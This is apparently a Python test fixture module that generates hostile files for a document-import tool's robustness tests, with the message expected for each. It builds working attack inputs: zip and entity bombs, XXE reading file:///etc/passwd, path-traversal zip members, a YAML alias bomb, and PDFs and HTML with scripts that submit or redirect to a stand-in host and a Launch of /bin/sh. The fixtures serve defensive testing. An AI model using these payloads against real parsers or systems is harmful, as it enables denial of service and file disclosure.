"""Files from outside, each made to break something: what it is, and what must be said of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
import typst
from word_files import HEAD, NAMES, PNG, XMLNS, docx, p, relationships, zipped

POLICY = p("Visitors", style="Heading1") + p("Visitors sign in.") + p("They wear a badge.")
WORD = docx(POLICY)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
SECRET = "the words of a file that nobody may read"


@dataclass(frozen=True)
class Case:
    """A file, and what must come of it.

    Attributes:
        said: what every command says, for a file that none reads; of one that is read, what
            `import` says.
        read: whether it is read, and its text shown.
        verify: what `verify` says instead.
        stress: whether it costs more than an ordinary test may.
        dear: whether it costs so much that `import` alone tries it in ordinary tests.
    """

    name: str
    make: Callable[[], bytes]
    said: str = ""
    read: bool = False
    verify: str = ""
    stress: bool = False
    dear: bool = False


def ole(stream: str) -> bytes:
    return OLE + stream.encode("utf-16-le") + b"\0" * 500


def _members(*members: tuple[str, bytes], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    done = io.BytesIO()
    with zipfile.ZipFile(done, "w", packing) as made:
        for name, content in members:
            made.writestr(name, content)
    return done.getvalue()


def with_document(content: bytes, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a Word file whose main part holds these bytes."""
    pointers = relationships([("rId1", "officeDocument", "word/document.xml")]).encode()
    return _members(("_rels/.rels", pointers), ("word/document.xml", content), packing=packing)


def body(content: str, declared: str = "") -> bytes:
    return f"{HEAD}{declared}<w:document {XMLNS}><w:body>{content}</w:body></w:document>".encode()


# zips


def bomb() -> bytes:
    """60 MB of blanks in 60 KB."""
    return with_document(b" " * 60_000_000)


def nested() -> bytes:
    inner = _members(("a.docx", b" " * 20_000_000))
    for _ in range(4):
        inner = _members(*((f"{n}.zip", inner) for n in range(10)))
    return inner


def liar() -> bytes:
    """A member of 60 MB that says it has ten bytes."""
    data = bytearray(with_document(b" " * 60_000_000))
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        struct.pack_into("<I", data, at + 24, 10)
    return bytes(data)


def many(count: int = 40_000) -> bytes:
    entry = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", *[0] * 6, 0, 0, 0, 1, *[0] * 4, 0, 0) + b"x"
    listed = entry * count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, *[count & 0xFFFF] * 2, len(listed), 0, 0)
    return b"PK\x03\x04" + b"\0" * 40 + listed + end


def overlapping(count: int = 60, kernel: int = 6_000_000) -> bytes:
    """Pictures that all share the same packed bytes: each quotes the next one's header."""
    names = [f"word/media/{n:03}.png" for n in range(count)]
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(PNG + b"\0" * kernel) + packer.flush()
    content = PNG + b"\0" * kernel
    locals_: list[bytes] = []
    sizes: list[tuple[int, int, int]] = []
    for name in reversed(names):
        crc = zlib.crc32(content)
        sizes.append((crc, len(packed), len(content)))
        header = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, *sizes[-1], len(name), 0)
        header += name.encode()
        locals_.append(header)
        quoted = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
        content = header + content
        packed = quoted + header + packed
    sizes.reverse()
    locals_.reverse()
    pictures = b"".join(
        head + (b"" if n == count - 1 else struct.pack("<BHH", 0, *_lengths(locals_[n + 1])))
        for n, head in enumerate(locals_)
    )
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    pictures += packer.compress(PNG + b"\0" * kernel) + packer.flush()
    drawn = "".join(
        f"<w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip"
        f' r:embed="p{n}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
        f"</w:drawing></w:r>"
        for n in range(count)
    )
    base = docx(
        POLICY + p(drawn),
        relations=[(f"p{n}", "image", f"media/{n:03}.png") for n in range(count)],
    )
    return _spliced(base, names, locals_, sizes, pictures)


def _lengths(header: bytes) -> tuple[int, int]:
    return len(header), len(header) ^ 0xFFFF


def _spliced(
    base: bytes,
    names: list[str],
    headers: list[bytes],
    sizes: list[tuple[int, int, int]],
    pictures: bytes,
) -> bytes:
    end = base.rindex(b"PK\x05\x06")
    count, length, begin = struct.unpack_from("<HLL", base, end + 10)
    listed = base[begin : begin + length]
    at = begin
    for number, (name, size) in enumerate(zip(names, sizes, strict=True)):
        listed += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *size, len(name), *[0] * 4, 0, at
        )
        listed += name.encode()
        at += len(headers[number]) + 5
    total = count + len(names)
    where = begin + len(pictures)
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, total, total, len(listed), where, 0)
    return base[:begin] + pictures + listed + tail


def packed_otherwise() -> bytes:
    """60 MB of blanks, packed as no Office file is: one call unpacks all of it."""
    return with_document(b" " * 60_000_000, zipfile.ZIP_BZIP2)


def locked_member() -> bytes:
    data = bytearray(WORD)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + offset] |= 1
    return bytes(data)


def traversal() -> bytes:
    return docx(
        POLICY,
        parts={
            "../../../../../../tmp/minuted-evil.xml": "<x/>",
            "/etc/minuted-evil": "x",
            "C:\\evil.docx": "x",
            "word/_rels/document.xml.rels": relationships(
                [("a", "styles", "../../../../etc/passwd"), ("b", "footnotes", "/../../x.xml")]
            ),
        },
    )


def many_headers() -> bytes:
    """300 headers of 3 MB each, that unpack to nearly a gigabyte."""
    large = f"{HEAD}<w:hdr {XMLNS}><w:p><w:r><w:t>{'x' * 3_000_000}</w:t></w:r></w:p></w:hdr>"
    references = "".join(f'<w:headerReference w:type="default" r:id="h{n}"/>' for n in range(300))
    return docx(
        POLICY + f"<w:sectPr>{references}</w:sectPr>",
        parts={f"word/header{n}.xml": large for n in range(300)},
        relations=[(f"h{n}", "header", f"header{n}.xml") for n in range(300)],
    )


# XML


def entities() -> bytes:
    declared = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    declared = f'<!DOCTYPE w:document [<!ENTITY a0 "xxxxxxxxxx">{declared}]>'
    return with_document(body("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", declared))


def entities_in_utf_16() -> bytes:
    text = body("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", '<!DOCTYPE x [<!ENTITY a "b">]>').decode()
    return with_document(text.replace("UTF-8", "UTF-16").encode("utf-16"))


def quadratic() -> bytes:
    declared = f'<!DOCTYPE w:document [<!ENTITY a "{"x" * 200_000}">]>'
    return with_document(body(f"<w:p><w:r><w:t>{'&a;' * 50_000}</w:t></w:r></w:p>", declared))


def outside(address: str) -> Callable[[], bytes]:
    def make() -> bytes:
        declared = f'<!DOCTYPE w:document [<!ENTITY e SYSTEM "{address}">]>'
        return with_document(body("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", declared))

    return make


def outside_parts(address: str) -> Callable[[], bytes]:
    def make() -> bytes:
        drawn = (
            "<w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip"
            ' r:link="pic" r:embed="pic"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
            "</wp:inline></w:drawing></w:r>"
        )
        kinds = ("styles", "numbering", "footnotes", "attachedTemplate", "header", "image")
        return docx(
            POLICY + p(drawn),
            relations=[
                *((f"x{n}", kind, address, "External") for n, kind in enumerate(kinds)),
                ("pic", "image", address, "External"),
            ],
        )

    return make


def deep_xml() -> bytes:
    return docx("<w:sdt><w:sdtContent>" * 5_000 + "</w:sdtContent></w:sdt>" * 5_000)


def deep_tables() -> bytes:
    inside = p("x")
    for _ in range(55):
        inside = f"<w:tbl><w:tr><w:tc>{inside}</w:tc><w:tc>{p('y')}</w:tc></w:tr></w:tbl>"
    return docx(POLICY + inside)


def large_xml() -> bytes:
    """48 MB of the smallest elements there are, as many as are read at all."""
    return docx("<w:p>" + "<w:r/>" * 2_400_000 + "</w:p>" + POLICY)


def many_attributes() -> bytes:
    attributes = " ".join(f'w:a{n}="1"' for n in range(100_000))
    return docx(f"<w:p {attributes}/>" + POLICY)


def macros() -> bytes:
    return docx(
        POLICY,
        parts={"word/vbaProject.bin": ole("VBA").decode("latin-1")},
        relations=[("v", "vbaProject", "vbaProject.bin")],
    )


# PDFs


def pdf(text: str = "= Visitors\n1.1 #h(1em) Visitors sign in.\n\n1.2 #h(1em) They go.\n") -> bytes:
    return typst.compile(text.encode())


def saved(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    done = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as opened:
        change(opened)
        opened.save(done, **options)  # type: ignore[arg-type]
    return done.getvalue()


def nothing(_: pikepdf.Pdf) -> None:
    return None


def locked_pdf() -> bytes:
    return saved(nothing, encryption=pikepdf.Encryption(owner="o", user="u"))


def owned_pdf() -> bytes:
    return saved(nothing, encryption=pikepdf.Encryption(owner="o", user=""))


def acting_pdf() -> bytes:
    def change(opened: pikepdf.Pdf) -> None:
        script = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS="app.alert(1); this.submitForm('http://x.example/')"
        )
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="/bin/sh")
        opened.Root.OpenAction = script
        opened.Root.AA = pikepdf.Dictionary(WC=script, WS=launch)
        opened.attachments["evil.exe"] = b"MZ" * 1_000
        opened.Root.Names.JavaScript = pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("a"), script])
        )

    return saved(change)


def _raw_pdf(*objects: str, trailer: str = "") -> bytes:
    parts = [b"%PDF-1.7\n"]
    places = []
    at = len(parts[0])
    for number, content in enumerate(objects, 1):
        places.append(at)
        parts.append(f"{number} 0 obj\n{content}\nendobj\n".encode("latin-1"))
        at += len(parts[-1])
    done = b"".join(parts)
    done += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    done += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    size = f"/Size {len(objects) + 1} /Root 1 0 R {trailer}"
    return done + f"trailer\n<<{size}>>\nstartxref\n{at}\n%%EOF\n".encode()


def looping_pages() -> bytes:
    return _raw_pdf(
        "<</Type /Catalog /Pages 2 0 R>>",
        "<</Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000000>>",
        "<</Type /Pages /Kids [2 0 R] /Parent 3 0 R /Count 5>>",
    )


def looping_table() -> bytes:
    data = _raw_pdf("<</Type /Catalog /Pages 2 0 R>>", "<</Type /Pages /Kids [] /Count 0>>")
    at = data.index(b"xref\n")
    return data.replace(b"/Root 1 0 R ", f"/Root 1 0 R /Prev {at}".encode())


def many_pages(count: int = 12_000) -> bytes:
    kids = " ".join(f"{n + 4} 0 R" for n in range(count))
    page = "<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R>>"
    return _raw_pdf(
        "<</Type /Catalog /Pages 2 0 R>>",
        f"<</Type /Pages /Kids [{kids}] /Count {count}>>",
        "<</Length 0>>\nstream\n\nendstream",
        *[page] * count,
    )


def deep_pdf() -> bytes:
    return _raw_pdf(
        "<</Type /Catalog /Pages 2 0 R /X 4 0 R>>",
        "<</Type /Pages /Kids [3 0 R] /Count 1>>",
        "<</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200]>>",
        "[" * 200_000 + "]" * 200_000,
    )


def _page_of(content: bytes, resources: str = "") -> bytes:
    packed = content.decode("latin-1")
    return _raw_pdf(
        "<</Type /Catalog /Pages 2 0 R>>",
        "<</Type /Pages /Kids [3 0 R] /Count 1>>",
        "<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R"
        f" /Resources <<{resources}>>>>",
        f"<</Length {len(content)} /Filter /FlateDecode>>\nstream\n{packed}\nendstream",
        "<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>",
    )


def stream_bomb() -> bytes:
    """A page of one stream that unpacks to two gigabytes of drawing."""
    packer = zlib.compressobj(9)
    block = b"0 0 m 1 1 l S\n" * 75_000
    return _page_of(b"".join(packer.compress(block) for _ in range(2_000)) + packer.flush())


def words_bomb() -> bytes:
    """A page with four million words in it."""
    packer = zlib.compressobj(9)
    block = b"(word) Tj 3 0 Td " * 60_000
    packed = packer.compress(b"BT /F 9 Tf ")
    packed += b"".join(packer.compress(block) for _ in range(70)) + packer.flush()
    return _page_of(packed, "/Font <</F 5 0 R>>")


def huge_picture() -> bytes:
    picture = (
        "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB"
        " /BitsPerComponent 8 /Filter /FlateDecode"
    )
    data = zlib.compress(b"\0" * 1_000_000).decode("latin-1")
    base = _page_of(zlib.compress(b"q 600 0 0 800 0 0 cm /I Do Q"), "/XObject <</I 6 0 R>>")
    objects = base[: base.index(b"xref\n")]
    more = f"6 0 obj\n<<{picture} /Length {len(data)}>>\nstream\n{data}\nendstream\nendobj\n"
    return objects + more.encode("latin-1") + b"trailer\n<</Root 1 0 R /Size 7>>\n%%EOF\n"


def broken_font() -> bytes:
    def change(opened: pikepdf.Pdf) -> None:
        for page in opened.pages:
            for font in page.Resources.Font.values():
                for inner in font.get("/DescendantFonts", []):
                    described = inner.get("/FontDescriptor")
                    for name in ("/FontFile2", "/FontFile3"):
                        if described is not None and name in described:
                            described[name].write(bytes(range(256)) * 4_000)

    return saved(change)


# pages and texts

HTML = "<!DOCTYPE html><html><head><title>Visitors</title>{}</head><body>{}</body></html>"
CLAUSES = "<h1>Visitors</h1><ol><li>Visitors sign in.</li><li>They wear a badge.</li></ol>"


def page(head: str = "", inside: str = CLAUSES) -> bytes:
    return HTML.format(head, inside).encode()


def acting_page() -> bytes:
    return page(
        '<script>document.location="http://x.example/"</script><base href="http://x.example/">'
        '<meta http-equiv="refresh" content="0;url=http://x.example/">'
        '<link rel="stylesheet" href="http://x.example/a.css">',
        CLAUSES
        + '<script src="http://x.example/a.js"></script><iframe src="file:///etc/passwd"></iframe>'
        '<img src="http://x.example/a.png" alt="A map"><img src="file:///etc/passwd" alt="A map">'
        '<object data="file:///etc/passwd"></object><p onclick="alert(1)">Ask the office.</p>'
        "<noscript>Not this.</noscript><template>Nor this.</template>",
    )


def entity_page() -> bytes:
    """Ten megabytes of entities; each is one letter, so that it is a long word and no bomb."""
    return page("", CLAUSES + f"<p>{'&amp;&nbsp;&copy;&#x41;&nosuch;' * 360_000}</p>")


def declared_page() -> bytes:
    declared = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    start = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a0 "x">{declared}'
    start += '<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return f"{start}<html><body>{CLAUSES}<p>&a9; &e;</p></body></html>".encode()


def deep_page() -> bytes:
    return page("", "<div>" * 100_000 + CLAUSES)


def deep_lists() -> bytes:
    return page("", "<ol><li>x" * 20_000)


def many_parts() -> bytes:
    return page("", "<p>x</p>" * 700_000)


def many_columns() -> bytes:
    return page(
        "", f'{CLAUSES}<table><tr><td colspan="100000" rowspan="100000">x</td></tr></table>'
    )


def deep_markdown() -> bytes:
    return b"---\ntitle: Visitors\n---\n\n" + b">" * 30_000 + b" 1. Sign in.\n"


def deep_brackets() -> bytes:
    return b"---\ntitle: Visitors\n---\n\n1. " + b"[" * 30_000 + b"x" + b"](y)" * 30_000 + b"\n"


def yaml_bomb() -> bytes:
    lines = ["---", "title: Visitors", 'a: &a ["x","x"]']
    for one, other in zip("abcdefghijklm", "bcdefghijklmn", strict=True):
        lines.append(f"{other}: &{other} [{', '.join([f'*{one}'] * 9)}]")
    return ("\n".join([*lines, "---", "", "1. Sign in."]) + "\n").encode()


def long_line() -> bytes:
    return b"1. " + b"word " * 800_000 + b"\n"


def many_lines() -> bytes:
    return b"".join(b"%d. Word.\n" % n for n in range(1, 200_000))


def deep_numbers(depth: int = 150) -> bytes:
    return ("\n".join(".".join(["1"] * n) + " Sign in." for n in range(1, depth))).encode()


PDF_LOCKED = "is locked with a password"
BROKEN_ZIP = "broken"
TEXT_VERIFIED = "is a text"

CASES = (
    Case("zip bomb.docx", bomb, "unpacks to 60 MB"),
    Case("zip of zips.docx", nested, "a zip of other files"),
    Case("member that lies.docx", liar, BROKEN_ZIP),
    Case("many members.docx", many, "has 40000 parts"),
    Case("overlapping members.docx", overlapping, "far too large", read=True, dear=True),
    Case("packed otherwise.docx", packed_otherwise, BROKEN_ZIP),
    Case("locked member.docx", locked_member, BROKEN_ZIP),
    Case("paths out of the zip.docx", traversal, read=True),
    Case("many headers.docx", many_headers, "unpacks to more than 100 MB", stress=True),
    Case("cut zip.docx", lambda: WORD[: len(WORD) * 2 // 3], "part of it is missing"),
    Case("empty zip.docx", lambda: zipped({}), "a zip of other files"),
    Case("entity bomb.docx", entities, "declares entities"),
    Case("entities in UTF-16.docx", entities_in_utf_16, "declares entities"),
    Case("long entity.docx", quadratic, "declares entities"),
    Case("outside file.docx", outside("file:///etc/passwd"), "declares entities"),
    Case("outside address.docx", outside("http://127.0.0.1:9/"), "declares entities"),
    Case("linked file.docx", outside_parts("file:///etc/passwd"), "nothing is fetched", read=True),
    Case("linked page.docx", outside_parts("http://127.0.0.1:9/"), "nothing is fetched", read=True),
    Case("deep.docx", deep_xml, "more than 250 deep"),
    Case("deep tables.docx", deep_tables, "Look at the document in Word", read=True),
    Case("many elements.docx", large_xml, "", read=True, stress=True),
    Case("many attributes.docx", many_attributes, "", read=True, dear=True),
    Case("macros.docm", macros, "macros", read=True),
    Case("nothing.docx", lambda: b"", "is empty"),
    Case("noughts.docx", lambda: b"\0" * 1_000_000, "nothing in it but noughts"),
    Case("locked.docx", lambda: ole("EncryptedPackage"), "locked with a password"),
    Case("old.docx", lambda: ole("WordDocument"), "in the old Word format (.doc)"),
    Case("workbook.docx", lambda: ole("Workbook"), "an old Excel workbook (.xls)"),
    Case("slides.docx", lambda: ole("PowerPoint Document"), "an old PowerPoint presentation"),
    Case("message.docx", lambda: ole("__properties_version1.0"), "an Outlook message"),
    Case("old something.docx", lambda: OLE, "an old Office file"),
    Case("pages.docx", lambda: zipped({"Index/Document.iwa": "x"}), "a Pages document"),
    Case(
        "odt.docx",
        lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": ""}),
        "an OpenDocument text",
    ),
    Case("xlsx.docx", lambda: zipped({"xl/workbook.xml": "<x/>"}), "an Excel workbook"),
    Case("pptx.docx", lambda: zipped({"ppt/presentation.xml": "<x/>"}), "a PowerPoint"),
    Case("epub.docx", lambda: zipped({"META-INF/container.xml": "<x/>"}), "an e-book"),
    Case("rtf.docx", lambda: b"{\\rtf1\\ansi Visitors}", "a Rich Text document"),
    Case("png.docx", lambda: PNG, "a picture"),
    Case("jpeg.docx", lambda: b"\xff\xd8\xff\xe0" + b"\0" * 99, "a picture"),
    Case("phone picture.docx", lambda: b"\0\0\0\x18ftypheic" + b"\0" * 99, "a picture"),
    Case("svg.docx", lambda: b'<?xml version="1.0"?><svg xmlns="x"/>', "a picture"),
    Case("film.docx", lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 99, "a sound or a film"),
    Case("gz.docx", lambda: b"\x1f\x8b\x08" + b"\0" * 99, "an archive of files (.gz)"),
    Case("rar.docx", lambda: b"Rar!\x1a\x07" + b"\0" * 99, "an archive of files (.rar)"),
    Case("program.docx", lambda: b"MZ\x90" + b"\0" * 99, "a program"),
    Case("shortcut.docx", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 99, "a Windows shortcut"),
    Case(
        "gdoc.docx",
        lambda: b'{"url": "https://docs.google.com/open?id=1", "doc_id": "1"}',
        "a shortcut to a Google document",
    ),
    Case("mac.docx", lambda: b"\0\x05\x16\x07" + b"\0" * 99, "what a Mac keeps beside a file"),
    Case(
        "xml.docx",
        f'<?xml?><w:wordDocument xmlns:w="{NAMES["w"]}wordml"/>'.encode,
        "a Word document saved as XML",
    ),
    Case("locked.pdf", locked_pdf, PDF_LOCKED),
    Case("owned.pdf", owned_pdf, read=True),
    Case("acting.pdf", acting_pdf, read=True),
    Case("cut.pdf", lambda: pdf()[:1_500], "is broken"),
    Case("nonsense.pdf", lambda: b"%PDF-1.7\nnonsense", "is broken"),
    Case("looping pages.pdf", looping_pages, ".pdf "),
    Case("looping table.pdf", looping_table, ".pdf "),
    Case("many pages.pdf", many_pages, "more pages than any policy"),
    Case("deep.pdf", deep_pdf, ".pdf "),
    Case("stream bomb.pdf", stream_bomb, ".pdf ", stress=True),
    Case("words bomb.pdf", words_bomb, ".pdf ", stress=True),
    Case("huge picture.pdf", huge_picture, ".pdf "),
    Case("broken font.pdf", broken_font, read=True),
    Case("acting.html", acting_page, read=True),
    Case("entities.html", entity_page, "more words than any policy", dear=True),
    Case("declared.html", declared_page, "", read=True),
    Case("deep.html", deep_page, "holds no text of a policy", verify="no policy of this trust"),
    Case("deep lists.html", deep_lists, read=True, dear=True),
    Case("many parts.html", many_parts, "more parts than any policy", dear=True),
    Case("wide table.html", many_columns, "", read=True),
    Case("deep.md", deep_markdown, "nested too deeply", verify=TEXT_VERIFIED, dear=True),
    Case("deep brackets.md", deep_brackets, "could not be read", verify=TEXT_VERIFIED, stress=True),
    Case("yaml bomb.md", yaml_bomb, "begins with & or *", verify=TEXT_VERIFIED),
    Case("long line.txt", long_line, "more words than any policy", verify=TEXT_VERIFIED),
    Case("many lines.txt", many_lines, "more words than any policy", verify=TEXT_VERIFIED),
    Case("deep numbers.txt", deep_numbers, "", read=True, verify=TEXT_VERIFIED),
    Case(
        "deeper numbers.txt",
        lambda: deep_numbers(400),
        "",
        read=True,
        verify=TEXT_VERIFIED,
        stress=True,
    ),
    Case("binary.txt", lambda: b"\1\2\3\4" * 100, "is not text", verify=TEXT_VERIFIED),
)
